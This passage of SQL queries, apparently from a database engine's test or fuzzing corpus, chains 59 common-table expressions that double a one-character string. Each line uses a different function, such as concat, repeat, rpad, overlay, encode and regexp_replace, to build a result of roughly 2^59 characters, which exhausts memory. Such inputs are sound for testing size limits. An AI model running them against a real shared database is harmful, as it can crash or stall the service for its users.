(SELECT x || x AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT concat(x, x) AS x FROM c0), c2 AS (SELECT concat(x, x) AS x FROM c1), c3 AS (SELECT concat(x, x) AS x FROM c2), c4 AS (SELECT concat(x, x) AS x FROM c3), c5 AS (SELECT concat(x, x) AS x FROM c4), c6 AS (SELECT concat(x, x) AS x FROM c5), c7 AS (SELECT concat(x, x) AS x FROM c6), c8 AS (SELECT concat(x, x) AS x FROM c7), c9 AS (SELECT concat(x, x) AS x FROM c8), c10 AS (SELECT concat(x, x) AS x FROM c9), c11 AS (SELECT concat(x, x) AS x FROM c10), c12 AS (SELECT concat(x, x) AS x FROM c11), c13 AS (SELECT concat(x, x) AS x FROM c12), c14 AS (SELECT concat(x, x) AS x FROM c13), c15 AS (SELECT concat(x, x) AS x FROM c14), c16 AS (SELECT concat(x, x) AS x FROM c15), c17 AS (SELECT concat(x, x) AS x FROM c16), c18 AS (SELECT concat(x, x) AS x FROM c17), c19 AS (SELECT concat(x, x) AS x FROM c18), c20 AS (SELECT concat(x, x) AS x FROM c19), c21 AS (SELECT concat(x, x) AS x FROM c20), c22 AS (SELECT concat(x, x) AS x FROM c21), c23 AS (SELECT concat(x, x) AS x FROM c22), c24 AS (SELECT concat(x, x) AS x FROM c23), c25 AS (SELECT concat(x, x) AS x FROM c24), c26 AS (SELECT concat(x, x) AS x FROM c25), c27 AS (SELECT concat(x, x) AS x FROM c26), c28 AS (SELECT concat(x, x) AS x FROM c27), c29 AS (SELECT concat(x, x) AS x FROM c28), c30 AS (SELECT concat(x, x) AS x FROM c29), c31 AS (SELECT concat(x, x) AS x FROM c30), c32 AS (SELECT concat(x, x) AS x FROM c31), c33 AS (SELECT concat(x, x) AS x FROM c32), c34 AS (SELECT concat(x, x) AS x FROM c33), c35 AS (SELECT concat(x, x) AS x FROM c34), c36 AS (SELECT concat(x, x) AS x FROM c35), c37 AS (SELECT concat(x, x) AS x FROM c36), c38 AS (SELECT concat(x, x) AS x FROM c37), c39 AS (SELECT concat(x, x) AS x FROM c38), c40 AS (SELECT concat(x, x) AS x FROM c39), c41 AS (SELECT concat(x, x) AS x FROM c40), c42 AS (SELECT concat(x, x) AS x FROM c41), c43 AS (SELECT concat(x, x) AS x FROM c42), c44 AS (SELECT concat(x, x) AS x FROM c43), c45 AS (SELECT concat(x, x) AS x FROM c44), c46 AS (SELECT concat(x, x) AS x FROM c45), c47 AS (SELECT concat(x, x) AS x FROM c46), c48 AS (SELECT concat(x, x) AS x FROM c47), c49 AS (SELECT concat(x, x) AS x FROM c48), c50 AS (SELECT concat(x, x) AS x FROM c49), c51 AS (SELECT concat(x, x) AS x FROM c50), c52 AS (SELECT concat(x, x) AS x FROM c51), c53 AS (SELECT concat(x, x) AS x FROM c52), c54 AS (SELECT concat(x, x) AS x FROM c53), c55 AS (SELECT concat(x, x) AS x FROM c54), c56 AS (SELECT concat(x, x) AS x FROM c55), c57 AS (SELECT concat(x, x) AS x FROM c56), c58 AS (SELECT concat(x, x) AS x FROM c57), c59 AS (SELECT concat(x, x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c0), c2 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c1), c3 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c2), c4 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c3), c5 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c4), c6 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c5), c7 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c6), c8 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c7), c9 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c8), c10 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c9), c11 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c10), c12 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c11), c13 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c12), c14 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c13), c15 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c14), c16 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c15), c17 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c16), c18 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c17), c19 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c18), c20 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c19), c21 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c20), c22 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c21), c23 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c22), c24 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c23), c25 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c24), c26 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c25), c27 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c26), c28 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c27), c29 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c28), c30 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c29), c31 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c30), c32 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c31), c33 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c32), c34 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c33), c35 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c34), c36 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c35), c37 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c36), c38 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c37), c39 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c38), c40 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c39), c41 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c40), c42 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c41), c43 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c42), c44 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c43), c45 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c44), c46 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c45), c47 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c46), c48 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c47), c49 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c48), c50 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c49), c51 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c50), c52 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c51), c53 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c52), c54 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c53), c55 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c54), c56 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c55), c57 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c56), c58 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c57), c59 AS (SELECT overlay(x PLACING x FROM 1 FOR 0) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT overlay(x, x, 1, 0) AS x FROM c0), c2 AS (SELECT overlay(x, x, 1, 0) AS x FROM c1), c3 AS (SELECT overlay(x, x, 1, 0) AS x FROM c2), c4 AS (SELECT overlay(x, x, 1, 0) AS x FROM c3), c5 AS (SELECT overlay(x, x, 1, 0) AS x FROM c4), c6 AS (SELECT overlay(x, x, 1, 0) AS x FROM c5), c7 AS (SELECT overlay(x, x, 1, 0) AS x FROM c6), c8 AS (SELECT overlay(x, x, 1, 0) AS x FROM c7), c9 AS (SELECT overlay(x, x, 1, 0) AS x FROM c8), c10 AS (SELECT overlay(x, x, 1, 0) AS x FROM c9), c11 AS (SELECT overlay(x, x, 1, 0) AS x FROM c10), c12 AS (SELECT overlay(x, x, 1, 0) AS x FROM c11), c13 AS (SELECT overlay(x, x, 1, 0) AS x FROM c12), c14 AS (SELECT overlay(x, x, 1, 0) AS x FROM c13), c15 AS (SELECT overlay(x, x, 1, 0) AS x FROM c14), c16 AS (SELECT overlay(x, x, 1, 0) AS x FROM c15), c17 AS (SELECT overlay(x, x, 1, 0) AS x FROM c16), c18 AS (SELECT overlay(x, x, 1, 0) AS x FROM c17), c19 AS (SELECT overlay(x, x, 1, 0) AS x FROM c18), c20 AS (SELECT overlay(x, x, 1, 0) AS x FROM c19), c21 AS (SELECT overlay(x, x, 1, 0) AS x FROM c20), c22 AS (SELECT overlay(x, x, 1, 0) AS x FROM c21), c23 AS (SELECT overlay(x, x, 1, 0) AS x FROM c22), c24 AS (SELECT overlay(x, x, 1, 0) AS x FROM c23), c25 AS (SELECT overlay(x, x, 1, 0) AS x FROM c24), c26 AS (SELECT overlay(x, x, 1, 0) AS x FROM c25), c27 AS (SELECT overlay(x, x, 1, 0) AS x FROM c26), c28 AS (SELECT overlay(x, x, 1, 0) AS x FROM c27), c29 AS (SELECT overlay(x, x, 1, 0) AS x FROM c28), c30 AS (SELECT overlay(x, x, 1, 0) AS x FROM c29), c31 AS (SELECT overlay(x, x, 1, 0) AS x FROM c30), c32 AS (SELECT overlay(x, x, 1, 0) AS x FROM c31), c33 AS (SELECT overlay(x, x, 1, 0) AS x FROM c32), c34 AS (SELECT overlay(x, x, 1, 0) AS x FROM c33), c35 AS (SELECT overlay(x, x, 1, 0) AS x FROM c34), c36 AS (SELECT overlay(x, x, 1, 0) AS x FROM c35), c37 AS (SELECT overlay(x, x, 1, 0) AS x FROM c36), c38 AS (SELECT overlay(x, x, 1, 0) AS x FROM c37), c39 AS (SELECT overlay(x, x, 1, 0) AS x FROM c38), c40 AS (SELECT overlay(x, x, 1, 0) AS x FROM c39), c41 AS (SELECT overlay(x, x, 1, 0) AS x FROM c40), c42 AS (SELECT overlay(x, x, 1, 0) AS x FROM c41), c43 AS (SELECT overlay(x, x, 1, 0) AS x FROM c42), c44 AS (SELECT overlay(x, x, 1, 0) AS x FROM c43), c45 AS (SELECT overlay(x, x, 1, 0) AS x FROM c44), c46 AS (SELECT overlay(x, x, 1, 0) AS x FROM c45), c47 AS (SELECT overlay(x, x, 1, 0) AS x FROM c46), c48 AS (SELECT overlay(x, x, 1, 0) AS x FROM c47), c49 AS (SELECT overlay(x, x, 1, 0) AS x FROM c48), c50 AS (SELECT overlay(x, x, 1, 0) AS x FROM c49), c51 AS (SELECT overlay(x, x, 1, 0) AS x FROM c50), c52 AS (SELECT overlay(x, x, 1, 0) AS x FROM c51), c53 AS (SELECT overlay(x, x, 1, 0) AS x FROM c52), c54 AS (SELECT overlay(x, x, 1, 0) AS x FROM c53), c55 AS (SELECT overlay(x, x, 1, 0) AS x FROM c54), c56 AS (SELECT overlay(x, x, 1, 0) AS x FROM c55), c57 AS (SELECT overlay(x, x, 1, 0) AS x FROM c56), c58 AS (SELECT overlay(x, x, 1, 0) AS x FROM c57), c59 AS (SELECT overlay(x, x, 1, 0) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT replace(x, 'x', 'xx') AS x FROM c0), c2 AS (SELECT replace(x, 'x', 'xx') AS x FROM c1), c3 AS (SELECT replace(x, 'x', 'xx') AS x FROM c2), c4 AS (SELECT replace(x, 'x', 'xx') AS x FROM c3), c5 AS (SELECT replace(x, 'x', 'xx') AS x FROM c4), c6 AS (SELECT replace(x, 'x', 'xx') AS x FROM c5), c7 AS (SELECT replace(x, 'x', 'xx') AS x FROM c6), c8 AS (SELECT replace(x, 'x', 'xx') AS x FROM c7), c9 AS (SELECT replace(x, 'x', 'xx') AS x FROM c8), c10 AS (SELECT replace(x, 'x', 'xx') AS x FROM c9), c11 AS (SELECT replace(x, 'x', 'xx') AS x FROM c10), c12 AS (SELECT replace(x, 'x', 'xx') AS x FROM c11), c13 AS (SELECT replace(x, 'x', 'xx') AS x FROM c12), c14 AS (SELECT replace(x, 'x', 'xx') AS x FROM c13), c15 AS (SELECT replace(x, 'x', 'xx') AS x FROM c14), c16 AS (SELECT replace(x, 'x', 'xx') AS x FROM c15), c17 AS (SELECT replace(x, 'x', 'xx') AS x FROM c16), c18 AS (SELECT replace(x, 'x', 'xx') AS x FROM c17), c19 AS (SELECT replace(x, 'x', 'xx') AS x FROM c18), c20 AS (SELECT replace(x, 'x', 'xx') AS x FROM c19), c21 AS (SELECT replace(x, 'x', 'xx') AS x FROM c20), c22 AS (SELECT replace(x, 'x', 'xx') AS x FROM c21), c23 AS (SELECT replace(x, 'x', 'xx') AS x FROM c22), c24 AS (SELECT replace(x, 'x', 'xx') AS x FROM c23), c25 AS (SELECT replace(x, 'x', 'xx') AS x FROM c24), c26 AS (SELECT replace(x, 'x', 'xx') AS x FROM c25), c27 AS (SELECT replace(x, 'x', 'xx') AS x FROM c26), c28 AS (SELECT replace(x, 'x', 'xx') AS x FROM c27), c29 AS (SELECT replace(x, 'x', 'xx') AS x FROM c28), c30 AS (SELECT replace(x, 'x', 'xx') AS x FROM c29), c31 AS (SELECT replace(x, 'x', 'xx') AS x FROM c30), c32 AS (SELECT replace(x, 'x', 'xx') AS x FROM c31), c33 AS (SELECT replace(x, 'x', 'xx') AS x FROM c32), c34 AS (SELECT replace(x, 'x', 'xx') AS x FROM c33), c35 AS (SELECT replace(x, 'x', 'xx') AS x FROM c34), c36 AS (SELECT replace(x, 'x', 'xx') AS x FROM c35), c37 AS (SELECT replace(x, 'x', 'xx') AS x FROM c36), c38 AS (SELECT replace(x, 'x', 'xx') AS x FROM c37), c39 AS (SELECT replace(x, 'x', 'xx') AS x FROM c38), c40 AS (SELECT replace(x, 'x', 'xx') AS x FROM c39), c41 AS (SELECT replace(x, 'x', 'xx') AS x FROM c40), c42 AS (SELECT replace(x, 'x', 'xx') AS x FROM c41), c43 AS (SELECT replace(x, 'x', 'xx') AS x FROM c42), c44 AS (SELECT replace(x, 'x', 'xx') AS x FROM c43), c45 AS (SELECT replace(x, 'x', 'xx') AS x FROM c44), c46 AS (SELECT replace(x, 'x', 'xx') AS x FROM c45), c47 AS (SELECT replace(x, 'x', 'xx') AS x FROM c46), c48 AS (SELECT replace(x, 'x', 'xx') AS x FROM c47), c49 AS (SELECT replace(x, 'x', 'xx') AS x FROM c48), c50 AS (SELECT replace(x, 'x', 'xx') AS x FROM c49), c51 AS (SELECT replace(x, 'x', 'xx') AS x FROM c50), c52 AS (SELECT replace(x, 'x', 'xx') AS x FROM c51), c53 AS (SELECT replace(x, 'x', 'xx') AS x FROM c52), c54 AS (SELECT replace(x, 'x', 'xx') AS x FROM c53), c55 AS (SELECT replace(x, 'x', 'xx') AS x FROM c54), c56 AS (SELECT replace(x, 'x', 'xx') AS x FROM c55), c57 AS (SELECT replace(x, 'x', 'xx') AS x FROM c56), c58 AS (SELECT replace(x, 'x', 'xx') AS x FROM c57), c59 AS (SELECT replace(x, 'x', 'xx') AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT repeat(x, 2) AS x FROM c0), c2 AS (SELECT repeat(x, 2) AS x FROM c1), c3 AS (SELECT repeat(x, 2) AS x FROM c2), c4 AS (SELECT repeat(x, 2) AS x FROM c3), c5 AS (SELECT repeat(x, 2) AS x FROM c4), c6 AS (SELECT repeat(x, 2) AS x FROM c5), c7 AS (SELECT repeat(x, 2) AS x FROM c6), c8 AS (SELECT repeat(x, 2) AS x FROM c7), c9 AS (SELECT repeat(x, 2) AS x FROM c8), c10 AS (SELECT repeat(x, 2) AS x FROM c9), c11 AS (SELECT repeat(x, 2) AS x FROM c10), c12 AS (SELECT repeat(x, 2) AS x FROM c11), c13 AS (SELECT repeat(x, 2) AS x FROM c12), c14 AS (SELECT repeat(x, 2) AS x FROM c13), c15 AS (SELECT repeat(x, 2) AS x FROM c14), c16 AS (SELECT repeat(x, 2) AS x FROM c15), c17 AS (SELECT repeat(x, 2) AS x FROM c16), c18 AS (SELECT repeat(x, 2) AS x FROM c17), c19 AS (SELECT repeat(x, 2) AS x FROM c18), c20 AS (SELECT repeat(x, 2) AS x FROM c19), c21 AS (SELECT repeat(x, 2) AS x FROM c20), c22 AS (SELECT repeat(x, 2) AS x FROM c21), c23 AS (SELECT repeat(x, 2) AS x FROM c22), c24 AS (SELECT repeat(x, 2) AS x FROM c23), c25 AS (SELECT repeat(x, 2) AS x FROM c24), c26 AS (SELECT repeat(x, 2) AS x FROM c25), c27 AS (SELECT repeat(x, 2) AS x FROM c26), c28 AS (SELECT repeat(x, 2) AS x FROM c27), c29 AS (SELECT repeat(x, 2) AS x FROM c28), c30 AS (SELECT repeat(x, 2) AS x FROM c29), c31 AS (SELECT repeat(x, 2) AS x FROM c30), c32 AS (SELECT repeat(x, 2) AS x FROM c31), c33 AS (SELECT repeat(x, 2) AS x FROM c32), c34 AS (SELECT repeat(x, 2) AS x FROM c33), c35 AS (SELECT repeat(x, 2) AS x FROM c34), c36 AS (SELECT repeat(x, 2) AS x FROM c35), c37 AS (SELECT repeat(x, 2) AS x FROM c36), c38 AS (SELECT repeat(x, 2) AS x FROM c37), c39 AS (SELECT repeat(x, 2) AS x FROM c38), c40 AS (SELECT repeat(x, 2) AS x FROM c39), c41 AS (SELECT repeat(x, 2) AS x FROM c40), c42 AS (SELECT repeat(x, 2) AS x FROM c41), c43 AS (SELECT repeat(x, 2) AS x FROM c42), c44 AS (SELECT repeat(x, 2) AS x FROM c43), c45 AS (SELECT repeat(x, 2) AS x FROM c44), c46 AS (SELECT repeat(x, 2) AS x FROM c45), c47 AS (SELECT repeat(x, 2) AS x FROM c46), c48 AS (SELECT repeat(x, 2) AS x FROM c47), c49 AS (SELECT repeat(x, 2) AS x FROM c48), c50 AS (SELECT repeat(x, 2) AS x FROM c49), c51 AS (SELECT repeat(x, 2) AS x FROM c50), c52 AS (SELECT repeat(x, 2) AS x FROM c51), c53 AS (SELECT repeat(x, 2) AS x FROM c52), c54 AS (SELECT repeat(x, 2) AS x FROM c53), c55 AS (SELECT repeat(x, 2) AS x FROM c54), c56 AS (SELECT repeat(x, 2) AS x FROM c55), c57 AS (SELECT repeat(x, 2) AS x FROM c56), c58 AS (SELECT repeat(x, 2) AS x FROM c57), c59 AS (SELECT repeat(x, 2) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c0), c2 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c1), c3 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c2), c4 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c3), c5 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c4), c6 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c5), c7 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c6), c8 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c7), c9 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c8), c10 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c9), c11 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c10), c12 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c11), c13 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c12), c14 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c13), c15 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c14), c16 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c15), c17 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c16), c18 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c17), c19 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c18), c20 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c19), c21 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c20), c22 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c21), c23 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c22), c24 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c23), c25 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c24), c26 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c25), c27 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c26), c28 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c27), c29 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c28), c30 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c29), c31 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c30), c32 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c31), c33 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c32), c34 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c33), c35 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c34), c36 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c35), c37 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c36), c38 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c37), c39 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c38), c40 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c39), c41 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c40), c42 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c41), c43 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c42), c44 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c43), c45 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c44), c46 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c45), c47 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c46), c48 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c47), c49 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c48), c50 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c49), c51 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c50), c52 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c51), c53 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c52), c54 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c53), c55 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c54), c56 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c55), c57 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c56), c58 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c57), c59 AS (SELECT rpad(x, CAST(2 * length(x) AS INT), x) AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT encode(x, 'hex') AS x FROM c0), c2 AS (SELECT encode(x, 'hex') AS x FROM c1), c3 AS (SELECT encode(x, 'hex') AS x FROM c2), c4 AS (SELECT encode(x, 'hex') AS x FROM c3), c5 AS (SELECT encode(x, 'hex') AS x FROM c4), c6 AS (SELECT encode(x, 'hex') AS x FROM c5), c7 AS (SELECT encode(x, 'hex') AS x FROM c6), c8 AS (SELECT encode(x, 'hex') AS x FROM c7), c9 AS (SELECT encode(x, 'hex') AS x FROM c8), c10 AS (SELECT encode(x, 'hex') AS x FROM c9), c11 AS (SELECT encode(x, 'hex') AS x FROM c10), c12 AS (SELECT encode(x, 'hex') AS x FROM c11), c13 AS (SELECT encode(x, 'hex') AS x FROM c12), c14 AS (SELECT encode(x, 'hex') AS x FROM c13), c15 AS (SELECT encode(x, 'hex') AS x FROM c14), c16 AS (SELECT encode(x, 'hex') AS x FROM c15), c17 AS (SELECT encode(x, 'hex') AS x FROM c16), c18 AS (SELECT encode(x, 'hex') AS x FROM c17), c19 AS (SELECT encode(x, 'hex') AS x FROM c18), c20 AS (SELECT encode(x, 'hex') AS x FROM c19), c21 AS (SELECT encode(x, 'hex') AS x FROM c20), c22 AS (SELECT encode(x, 'hex') AS x FROM c21), c23 AS (SELECT encode(x, 'hex') AS x FROM c22), c24 AS (SELECT encode(x, 'hex') AS x FROM c23), c25 AS (SELECT encode(x, 'hex') AS x FROM c24), c26 AS (SELECT encode(x, 'hex') AS x FROM c25), c27 AS (SELECT encode(x, 'hex') AS x FROM c26), c28 AS (SELECT encode(x, 'hex') AS x FROM c27), c29 AS (SELECT encode(x, 'hex') AS x FROM c28), c30 AS (SELECT encode(x, 'hex') AS x FROM c29), c31 AS (SELECT encode(x, 'hex') AS x FROM c30), c32 AS (SELECT encode(x, 'hex') AS x FROM c31), c33 AS (SELECT encode(x, 'hex') AS x FROM c32), c34 AS (SELECT encode(x, 'hex') AS x FROM c33), c35 AS (SELECT encode(x, 'hex') AS x FROM c34), c36 AS (SELECT encode(x, 'hex') AS x FROM c35), c37 AS (SELECT encode(x, 'hex') AS x FROM c36), c38 AS (SELECT encode(x, 'hex') AS x FROM c37), c39 AS (SELECT encode(x, 'hex') AS x FROM c38), c40 AS (SELECT encode(x, 'hex') AS x FROM c39), c41 AS (SELECT encode(x, 'hex') AS x FROM c40), c42 AS (SELECT encode(x, 'hex') AS x FROM c41), c43 AS (SELECT encode(x, 'hex') AS x FROM c42), c44 AS (SELECT encode(x, 'hex') AS x FROM c43), c45 AS (SELECT encode(x, 'hex') AS x FROM c44), c46 AS (SELECT encode(x, 'hex') AS x FROM c45), c47 AS (SELECT encode(x, 'hex') AS x FROM c46), c48 AS (SELECT encode(x, 'hex') AS x FROM c47), c49 AS (SELECT encode(x, 'hex') AS x FROM c48), c50 AS (SELECT encode(x, 'hex') AS x FROM c49), c51 AS (SELECT encode(x, 'hex') AS x FROM c50), c52 AS (SELECT encode(x, 'hex') AS x FROM c51), c53 AS (SELECT encode(x, 'hex') AS x FROM c52), c54 AS (SELECT encode(x, 'hex') AS x FROM c53), c55 AS (SELECT encode(x, 'hex') AS x FROM c54), c56 AS (SELECT encode(x, 'hex') AS x FROM c55), c57 AS (SELECT encode(x, 'hex') AS x FROM c56), c58 AS (SELECT encode(x, 'hex') AS x FROM c57), c59 AS (SELECT encode(x, 'hex') AS x FROM c58) SELECT x FROM c59
WITH c0 AS (SELECT 'x' AS x), c1 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c0), c2 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c1), c3 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c2), c4 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c3), c5 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c4), c6 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c5), c7 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c6), c8 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c7), c9 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c8), c10 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c9), c11 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c10), c12 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c11), c13 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c12), c14 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c13), c15 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c14), c16 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c15), c17 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c16), c18 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c17), c19 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c18), c20 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c19), c21 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c20), c22 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c21), c23 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x FROM c22), c24 AS (SELECT regexp_replace(x, 'x', 'xx', 'g') AS x 